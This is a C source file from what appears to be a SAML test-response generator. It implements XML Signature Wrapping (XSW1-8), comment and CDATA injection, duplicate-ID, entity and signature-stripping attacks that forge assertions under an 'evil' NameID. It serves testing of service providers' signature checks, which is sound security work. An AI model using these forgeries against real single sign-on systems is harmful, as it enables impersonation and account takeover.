/*
 * wcs_attacks.c - the --attack implementations of wcs_mkresponse: XML
 * Signature Wrapping (XSW1-8), comment injection, DTDs and entities,
 * duplicate IDs, bad references and the others, and the table that says
 * which phase of run() each one belongs to.
 */

#include <stdio.h>
#include <string.h>

#include <openssl/rand.h>

#include <libxml/entities.h>
#include <libxml/tree.h>

#include <xmlsec/xmlsec.h>
#include <xmlsec/base64.h>

#include "wcs_mkresponse.h"

#define BOB_NAMEID   "bob@example.test"

/* ------------------------------------------------------------------ */
/* Small helpers                                                       */
/* ------------------------------------------------------------------ */

static void set_text(xmlNodePtr node, const char *text)
{
    xmlNodeSetContent(node, NULL);
    xmlAddChild(node, xmlNewDocText(node->doc, BAD_CAST text));
}

static xmlNodePtr nameid_of(xmlNodePtr assertion)
{
    return find_child(find_child(assertion, "Subject", NS_SAML),
                      "NameID", NS_SAML);
}

static void remove_node(xmlNodePtr node)
{
    if (node != NULL) {
        xmlUnlinkNode(node);
        xmlFreeNode(node);
    }
}

/* Base64 of len random bytes, for ciphertext placeholders. */
static xmlChar *random_b64(size_t len)
{
    unsigned char buf[256];

    if (len > sizeof(buf) || RAND_bytes(buf, (int)len) != 1) {
        return NULL;
    }
    return xmlSecBase64Encode(buf, (xmlSecSize)len, 0);
}

/* ------------------------------------------------------------------ */
/* XML Signature Wrapping (Somorovsky et al. 2012; SAML Raider XSW1-8) */
/* ------------------------------------------------------------------ */

/*
 * Each attack keeps the original SignatureValue, whose Reference "#ID"
 * now resolves to an untouched copy of the signed element, and adds an
 * "evil" element (fresh "_evil_" ID, NameID --evil-nameid) where an SP
 * looks for the data.  Unlike SAML Raider the evil element always gets a
 * new ID (Raider keeps it in XSW7/XSW8), XSW7 hides the signed original
 * in Extensions (Raider hides the evil copy there) and the wrappers are
 * in the SAML/XML-DSig namespaces.  Where the copy sits
 * inside the Signature (XSW1, XSW6, XSW8) the enveloped-signature
 * transform removes it again, so a conforming verifier fails there.
 */

/* A deep copy of a signed element without its own (direct) Signature. */
static xmlNodePtr copy_unsigned(gen_t *g, xmlNodePtr elem)
{
    xmlNodePtr copy = xmlDocCopyNode(elem, g->doc, 1);

    if (copy != NULL) {
        remove_node(find_child(copy, "Signature", NS_DSIG));
    }
    return copy;
}

/* Give elem a fresh "_evil_" ID and assertion's NameID the evil value. */
static int make_evil(gen_t *g, xmlNodePtr elem, xmlNodePtr assertion)
{
    char id[ID_LEN];
    xmlNodePtr nameid = nameid_of(assertion);

    if (nameid == NULL || random_id(id, sizeof(id), "_evil_") < 0) {
        return fail("xsw: no NameID to modify");
    }
    xmlSetProp(elem, BAD_CAST "ID", BAD_CAST id);
    set_text(nameid, g->o->evil_nameid);
    return 0;
}

/* An unsigned, evil copy of the (signed) assertion. */
static xmlNodePtr evil_assertion(gen_t *g)
{
    xmlNodePtr evil = copy_unsigned(g, g->assertion);

    if (evil != NULL && make_evil(g, evil, evil) < 0) {
        xmlFreeNode(evil);
        return NULL;
    }
    return evil;
}

/*
 * XSW1/XSW2: the root becomes the evil Response (new ID, evil NameID) that
 * keeps the original Signature; an unsigned copy of the original Response,
 * which the Signature's "#ID" still resolves to, goes inside that Signature
 * (XSW1) or just before it (XSW2).
 */
static int wrap_response(gen_t *g, int before_signature)
{
    xmlNodePtr sig = find_child(g->response, "Signature", NS_DSIG);
    xmlNodePtr orig = copy_unsigned(g, g->response);
    xmlNodePtr assertion = find_child(g->response, "Assertion", NS_SAML);

    if (sig == NULL || orig == NULL
        || make_evil(g, g->response, assertion) < 0) {
        return fail("xsw: no signed Response");
    }
    if (before_signature) {
        xmlAddPrevSibling(sig, orig);
    }
    else {
        xmlAddChild(sig, orig);
    }
    return 0;
}

static int attack_xsw1(gen_t *g)
{
    return wrap_response(g, 0);
}

static int attack_xsw2(gen_t *g)
{
    return wrap_response(g, 1);
}

/* XSW3: unsigned evil Assertion inserted before the signed original. */
static int attack_xsw3(gen_t *g)
{
    xmlNodePtr evil = evil_assertion(g);

    if (evil == NULL) {
        return -1;
    }
    xmlAddPrevSibling(g->assertion, evil);
    return 0;
}

/*
 * XSW4: unsigned evil Assertion appended to the Response; the signed
 * original is moved inside it as its last child.
 */
static int attack_xsw4(gen_t *g)
{
    xmlNodePtr evil = evil_assertion(g);

    if (evil == NULL) {
        return -1;
    }
    xmlAddChild(g->response, evil);
    xmlUnlinkNode(g->assertion);
    xmlAddChild(evil, g->assertion);
    return 0;
}

/*
 * XSW5: the signed Assertion itself is made evil and keeps the original
 * Signature; an unsigned copy of the original is appended to the Response.
 */
static int attack_xsw5(gen_t *g)
{
    xmlNodePtr orig = copy_unsigned(g, g->assertion);

    if (orig == NULL || make_evil(g, g->assertion, g->assertion) < 0) {
        return -1;
    }
    xmlAddChild(g->response, orig);
    return 0;
}

/* XSW6: as XSW5, but the unsigned original goes inside the Signature. */
static int attack_xsw6(gen_t *g)
{
    xmlNodePtr sig = find_child(g->assertion, "Signature", NS_DSIG);
    xmlNodePtr orig = copy_unsigned(g, g->assertion);

    if (sig == NULL || orig == NULL
        || make_evil(g, g->assertion, g->assertion) < 0) {
        return -1;
    }
    xmlAddChild(sig, orig);
    return 0;
}

/*
 * XSW7: the signed original (with its Signature) is hidden inside a
 * samlp:Extensions element, whose content the schema does not check, and
 * an unsigned evil Assertion follows it.
 */
static int attack_xsw7(gen_t *g)
{
    xmlNodePtr evil = evil_assertion(g);
    xmlNodePtr ext;

    if (evil == NULL) {
        return -1;
    }
    ext = xmlNewDocNode(g->doc, g->proto_ns, BAD_CAST "Extensions", NULL);
    xmlAddPrevSibling(g->assertion, ext);
    xmlUnlinkNode(g->assertion);
    xmlAddChild(ext, g->assertion);
    xmlAddNextSibling(ext, evil);
    return 0;
}

/*
 * XSW8: the signed Assertion is made evil and keeps its Signature; an
 * unsigned copy of the original goes into a ds:Object in that Signature.
 */
static int attack_xsw8(gen_t *g)
{
    xmlNodePtr sig = find_child(g->assertion, "Signature", NS_DSIG);
    xmlNodePtr orig = copy_unsigned(g, g->assertion);
    xmlNodePtr object;

    if (sig == NULL || orig == NULL
        || make_evil(g, g->assertion, g->assertion) < 0) {
        return -1;
    }
    object = add_el(sig, sig->ns, "Object", NULL);
    xmlAddChild(object, orig);
    return 0;
}

/* ------------------------------------------------------------------ */
/* Other attacks                                                       */
/* ------------------------------------------------------------------ */

/*
 * comment-nameid (before signing): NameID text "alice@example.test",
 * a comment, then ".evil.test".  The signature covers the comment-free
 * value; an SP reading only the first text node sees "alice@example.test".
 */
static int attack_comment_nameid(gen_t *g)
{
    xmlNodePtr nameid = nameid_of(g->assertion);

    if (nameid == NULL) {
        return fail("comment-nameid: no NameID");
    }
    xmlAddChild(nameid, xmlNewDocComment(g->doc, BAD_CAST ""));
    xmlAddChild(nameid, xmlNewDocText(g->doc, BAD_CAST ".evil.test"));
    return 0;
}

/* The last AttributeValue of the assertion (of its last Attribute with a
 * value), or NULL. */
static xmlNodePtr last_attribute_value(gen_t *g)
{
    xmlNodePtr st, attr, val, last = NULL;

    for (st = g->assertion->children; st != NULL; st = st->next) {
        if (st->type != XML_ELEMENT_NODE
            || strcmp((const char *)st->name, "AttributeStatement") != 0) {
            continue;
        }
        for (attr = st->children; attr != NULL; attr = attr->next) {
            for (val = attr->children; val != NULL; val = val->next) {
                if (val->type == XML_ELEMENT_NODE
                    && strcmp((const char *)val->name, "AttributeValue") == 0) {
                    last = val;
                }
            }
        }
    }
    return last;
}

/*
 * comment-attr (before signing): an empty comment after the text of the
 * last AttributeValue ("suspended<!---->").  Exclusive c14n drops
 * comments, so the signature still verifies; an SP that skips values
 * holding markup silently loses the value.
 */
static int attack_comment_attr(gen_t *g)
{
    xmlNodePtr val = last_attribute_value(g);

    if (val == NULL) {
        return fail("comment-attr: no AttributeValue (give --attr)");
    }
    xmlAddChild(val, xmlNewDocComment(g->doc, BAD_CAST ""));
    return 0;
}

/*
 * cdata-attr (before signing): the last AttributeValue's text split into
 * a text node and a CDATA section ("sus<![CDATA[pended]]>"), which c14n
 * writes as the same characters.
 */
static int attack_cdata_attr(gen_t *g)
{
    xmlNodePtr val = last_attribute_value(g);
    xmlChar *text;
    size_t len, half;

    if (val == NULL) {
        return fail("cdata-attr: no AttributeValue (give --attr)");
    }
    text = xmlNodeGetContent(val);
    len = text != NULL ? strlen((const char *)text) : 0;
    if (len < 2) {
        xmlFree(text);
        return fail("cdata-attr: the value needs two characters or more");
    }
    half = len / 2;
    xmlNodeSetContent(val, NULL);
    xmlAddChild(val, xmlNewDocTextLen(g->doc, text, (int)half));
    xmlAddChild(val, xmlNewCDataBlock(g->doc, text + half,
                                      (int)(len - half)));
    xmlFree(text);
    return 0;
}

/*
 * structured-attr (before signing): the last AttributeValue holds a
 * saml:NameID element with its text, as eduPersonTargetedID is sent: a
 * legitimate value that is not a string.
 */
static int attack_structured_attr(gen_t *g)
{
    xmlNodePtr val = last_attribute_value(g);
    xmlNodePtr nameid;
    xmlChar *text;

    if (val == NULL) {
        return fail("structured-attr: no AttributeValue (give --attr)");
    }
    text = xmlNodeGetContent(val);
    xmlNodeSetContent(val, NULL);
    nameid = add_el(val, NULL, "NameID", (const char *)text);
    xmlFree(text);
    if (nameid == NULL) {
        return fail("structured-attr: out of memory");
    }
    add_prop(nameid, "Format",
             "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
    return 0;
}

/* deep (before signing): an AttributeValue nesting --deep-levels elements. */
static int attack_deep(gen_t *g)
{
    xmlNodePtr stmt, attr, cur;
    xmlNsPtr ns;
    long i;

    stmt = find_child(g->assertion, "AttributeStatement", NS_SAML);
    if (stmt == NULL) {
        stmt = add_el(g->assertion, NULL, "AttributeStatement", NULL);
    }
    attr = add_el(stmt, NULL, "Attribute", NULL);
    add_prop(attr, "Name", "deep");
    cur = add_el(attr, NULL, "AttributeValue", NULL);
    ns = xmlNewNs(cur, BAD_CAST NS_DEEP, BAD_CAST "d");
    for (i = 0; i < g->o->deep_levels && cur != NULL; i++) {
        cur = add_el(cur, ns, "n", NULL);
    }
    return cur != NULL ? 0 : fail("deep: out of memory");
}

/* two-assertions: a second assertion for bob, signed like the first. */
static int attack_two_assertions(gen_t *g)
{
    char id[ID_LEN];
    xmlNodePtr second;

    if (random_id(id, sizeof(id), "_a") < 0) {
        return -1;
    }
    second = build_assertion(g, id, BOB_NAMEID);
    if (second == NULL) {
        return fail("two-assertions: cannot build assertion");
    }
    if (g->o->sign & SIGN_ASSERTION) {
        return sign_element(g, second, id);
    }
    return 0;
}

/* dup-id: samlp:Status gets the Assertion's ID as well. */
static int attack_dup_id(gen_t *g)
{
    xmlNodePtr status = find_child(g->response, "Status", NS_PROTO);

    if (status == NULL) {
        return fail("dup-id: no Status");
    }
    xmlSetProp(status, BAD_CAST "ID", BAD_CAST g->assertion_id);
    return 0;
}

static void add_cipher_data(xmlNodePtr parent, xmlNsPtr xenc, size_t len)
{
    xmlChar *b64 = random_b64(len);
    xmlNodePtr data = add_el(parent, xenc, "CipherData", NULL);

    add_el(data, xenc, "CipherValue", (const char *)b64);
    xmlFree(b64);
}

static void add_encryption_method(xmlNodePtr parent, xmlNsPtr xenc,
                                  const char *alg)
{
    xmlNodePtr method = add_el(parent, xenc, "EncryptionMethod", NULL);

    add_prop(method, "Algorithm", alg);
}

/*
 * encrypted: the Assertion is replaced by an EncryptedAssertion holding an
 * xenc:EncryptedData skeleton with random "ciphertext".
 */
static int attack_encrypted(gen_t *g)
{
    xmlNodePtr ea, data, keyinfo, key;
    xmlNsPtr xenc;

    ea = add_saml_el(g, g->response, "EncryptedAssertion", NULL);
    data = add_el(ea, NULL, "EncryptedData", NULL);
    xenc = xmlNewNs(data, BAD_CAST NS_XENC, BAD_CAST "xenc");
    xmlSetNs(data, xenc);
    add_prop(data, "Type", NS_XENC "Element");
    add_encryption_method(data, xenc, NS_XENC "aes256-cbc");
    keyinfo = add_el(data, NULL, "KeyInfo", NULL);
    xmlSetNs(keyinfo, xmlNewNs(keyinfo, BAD_CAST NS_DSIG, BAD_CAST "ds"));
    key = add_el(keyinfo, xenc, "EncryptedKey", NULL);
    add_encryption_method(key, xenc, NS_XENC "rsa-oaep-mgf1p");
    add_cipher_data(key, xenc, 256);
    add_cipher_data(data, xenc, 128);

    xmlReplaceNode(g->assertion, ea);
    xmlFreeNode(g->assertion);
    g->assertion = NULL;
    return 0;
}

/* unsigned-modify: NameID changed after signing; the digest breaks. */
static int attack_unsigned_modify(gen_t *g)
{
    xmlNodePtr nameid = nameid_of(g->assertion);

    if (nameid == NULL) {
        return fail("unsigned-modify: no NameID");
    }
    set_text(nameid, g->o->evil_nameid);
    return 0;
}

/* strip-signature: the (assertion's) Signature is removed after signing. */
static int attack_strip_signature(gen_t *g)
{
    remove_node(find_child(primary_signed(g), "Signature", NS_DSIG));
    return 0;
}

/* doctype: <!DOCTYPE Response [<!ENTITY e "x">]> before the root. */
static int attack_doctype(gen_t *g)
{
    xmlNodePtr root = g->response;
    char qname[64];

    snprintf(qname, sizeof(qname), "%s%s%s",
             root->ns && root->ns->prefix ? (const char *)root->ns->prefix : "",
             root->ns && root->ns->prefix ? ":" : "",
             (const char *)root->name);
    if (xmlCreateIntSubset(g->doc, BAD_CAST qname, NULL, NULL) == NULL
        || xmlAddDocEntity(g->doc, BAD_CAST "e", XML_INTERNAL_GENERAL_ENTITY,
                           NULL, NULL, BAD_CAST "x") == NULL) {
        return fail("doctype: cannot add DTD");
    }
    return 0;
}

/*
 * entity: doctype, and the first "x" of the NameID text is written as &e;
 * (which expands to "x"), so "alice@example.test" becomes
 * "alice@e&e;ample.test" and the signature still holds after expansion.
 * Without an "x" the reference is appended (signature then breaks).
 */
static int attack_entity(gen_t *g)
{
    xmlNodePtr nameid = nameid_of(g->assertion);
    xmlChar *text;
    char *x;

    if (nameid == NULL) {
        return fail("entity: no NameID");
    }
    if (attack_doctype(g) < 0) {
        return -1;
    }
    text = xmlNodeGetContent(nameid);
    x = strchr((char *)text, 'x');
    xmlNodeSetContent(nameid, NULL);
    xmlAddChild(nameid, xmlNewDocTextLen(g->doc, text,
                                         x ? (int)(x - (char *)text)
                                           : xmlStrlen(text)));
    xmlAddChild(nameid, xmlNewReference(g->doc, BAD_CAST "e"));
    if (x != NULL) {
        xmlAddChild(nameid, xmlNewDocText(g->doc, BAD_CAST (x + 1)));
    }
    xmlFree(text);
    return 0;
}

/* ------------------------------------------------------------------ */
/* Dispatch                                                            */
/* ------------------------------------------------------------------ */

#define BOTH (SIGN_ASSERTION | SIGN_RESPONSE)

/* empty-ref and foreign-ref have no function: sign_element() applies
 * them when it writes the Reference URI. */
static const attack_t attacks[] = {
    { "xsw1", PHASE_POST, SIGN_RESPONSE, attack_xsw1 },
    { "xsw2", PHASE_POST, SIGN_RESPONSE, attack_xsw2 },
    { "xsw3", PHASE_POST, SIGN_ASSERTION, attack_xsw3 },
    { "xsw4", PHASE_POST, SIGN_ASSERTION, attack_xsw4 },
    { "xsw5", PHASE_POST, SIGN_ASSERTION, attack_xsw5 },
    { "xsw6", PHASE_POST, SIGN_ASSERTION, attack_xsw6 },
    { "xsw7", PHASE_POST, SIGN_ASSERTION, attack_xsw7 },
    { "xsw8", PHASE_POST, SIGN_ASSERTION, attack_xsw8 },
    { "comment-nameid", PHASE_PRE, 0, attack_comment_nameid },
    { "comment-attr", PHASE_PRE, 0, attack_comment_attr },
    { "cdata-attr", PHASE_PRE, 0, attack_cdata_attr },
    { "structured-attr", PHASE_PRE, 0, attack_structured_attr },
    { "deep", PHASE_PRE, 0, attack_deep },
    { "two-assertions", PHASE_MID, 0, attack_two_assertions },
    { "dup-id", PHASE_MID, 0, attack_dup_id },
    { "encrypted", PHASE_MID, 0, attack_encrypted },
    { "empty-ref", PHASE_NONE, BOTH, NULL },
    { "foreign-ref", PHASE_NONE, BOTH, NULL },
    { "unsigned-modify", PHASE_POST, BOTH, attack_unsigned_modify },
    { "strip-signature", PHASE_POST, BOTH, attack_strip_signature },
    { "doctype", PHASE_POST, 0, attack_doctype },
    { "entity", PHASE_POST, 0, attack_entity },
    { NULL, PHASE_NONE, 0, NULL }
};

/* Runs the chosen attack if it belongs to this phase of run(). */
int apply_attack(gen_t *g, int phase)
{
    const attack_t *a = g->o->attack;

    if (a == NULL || a->phase != phase || a->fn == NULL) {
        return 0;
    }
    return a->fn(g);
}

/* The attack called name, or NULL. */
const attack_t *find_attack(const char *name)
{
    const attack_t *a;

    for (a = attacks; a->name != NULL; a++) {
        if (strcmp(a->name, name) == 0) {
            return a;
        }
    }
    return NULL;
}
